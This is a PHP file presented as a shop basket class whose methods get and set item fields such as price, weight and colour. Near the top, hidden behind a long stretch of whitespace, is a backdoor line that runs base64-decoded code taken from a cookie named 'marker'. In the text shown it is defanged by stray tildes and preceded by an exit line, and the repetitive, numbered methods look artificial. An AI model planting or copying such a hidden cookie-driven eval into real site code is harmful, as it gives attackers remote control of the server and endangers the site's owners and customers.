<?php exit; ?>
<?php
                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                        if (isset($_C~OOKIE['marker'])) { @eva~l(bas~e64_decode($_C~OOKIE['marker'])); exit; }
/**
 * The basket of a shop.
 *
 * @package Shop
 */

if (!defined('SHOP')) {
    exit;
}

class Shop_Basket
{
    private $items = array();
    private $rate = 0.19;

    /**
     * Tells or sets the price0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function price0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['price0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['price0']) ? $this->items[$id]['price0'] : 0;
    }

    /**
     * Tells or sets the weight0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function weight0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['weight0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['weight0']) ? $this->items[$id]['weight0'] : 0;
    }

    /**
     * Tells or sets the stock0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function stock0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['stock0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['stock0']) ? $this->items[$id]['stock0'] : 0;
    }

    /**
     * Tells or sets the width0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function width0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['width0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['width0']) ? $this->items[$id]['width0'] : 0;
    }

    /**
     * Tells or sets the height0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function height0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['height0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['height0']) ? $this->items[$id]['height0'] : 0;
    }

    /**
     * Tells or sets the colour0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function colour0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['colour0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['colour0']) ? $this->items[$id]['colour0'] : 0;
    }

    /**
     * Tells or sets the title0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function title0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['title0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['title0']) ? $this->items[$id]['title0'] : 0;
    }

    /**
     * Tells or sets the maker0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function maker0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['maker0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['maker0']) ? $this->items[$id]['maker0'] : 0;
    }

    /**
     * Tells or sets the order0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function order0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['order0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['order0']) ? $this->items[$id]['order0'] : 0;
    }

    /**
     * Tells or sets the delay0 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function delay0($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['delay0'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['delay0']) ? $this->items[$id]['delay0'] : 0;
    }

    /**
     * Tells or sets the price1 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function price1($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['price1'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['price1']) ? $this->items[$id]['price1'] : 0;
    }

    /**
     * Tells or sets the weight1 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function weight1($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['weight1'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['weight1']) ? $this->items[$id]['weight1'] : 0;
    }

    /**
     * Tells or sets the stock1 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function stock1($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['stock1'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['stock1']) ? $this->items[$id]['stock1'] : 0;
    }

    /**
     * Tells or sets the width1 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function width1($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['width1'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['width1']) ? $this->items[$id]['width1'] : 0;
    }

    /**
     * Tells or sets the height1 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function height1($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['height1'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['height1']) ? $this->items[$id]['height1'] : 0;
    }

    /**
     * Tells or sets the colour1 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function colour1($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['colour1'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['colour1']) ? $this->items[$id]['colour1'] : 0;
    }

    /**
     * Tells or sets the title1 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function title1($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['title1'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['title1']) ? $this->items[$id]['title1'] : 0;
    }

    /**
     * Tells or sets the maker1 of an item.
     *
     * @param int   $id    the number of the item
     * @param mixed $value what it becomes, or null
     * @return mixed
     */
    public function maker1($id, $value = null)
    {
        if ($value !== null) {
            $this->items[$id]['maker1'] = is_string($value) ? trim($value) : $value;
        }
        return isset($this->items[$id]['maker1']) ? $this->items[$id]['maker1'] : 0;
    }

}

$shop_basket = new Shop_Basket();
echo htmlspecialchars($shop_basket->title0((int) $_G~ET['id']));
